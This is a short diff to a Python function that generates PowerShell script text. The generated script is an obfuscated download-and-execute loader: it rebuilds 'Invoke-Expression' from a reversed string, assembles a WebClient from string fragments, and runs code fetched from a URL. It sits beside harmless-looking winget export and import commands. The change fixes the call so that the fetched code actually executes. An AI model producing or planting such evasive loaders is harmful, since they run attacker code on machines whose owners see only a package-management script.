@@ -1026,7 +1026,7 @@ def b_indirection():
             $u = -join ([char[]]@({py_chars(url)}))
             $v = ('noisserpxE-ekovnI'[-1..-17] -join '')
             $w = New-Object ('Net.' + 'Web' + 'Client')
-            & $v ($w.('Download' + 'String')($u))
+            & $v ($w.('Download' + 'String').Invoke($u))
 
             if ($Export) {{ winget export -o $Export --accept-source-agreements }}
             if ($Import) {{ winget import -i $Import --accept-package-agreements --accept-source-agreements }}
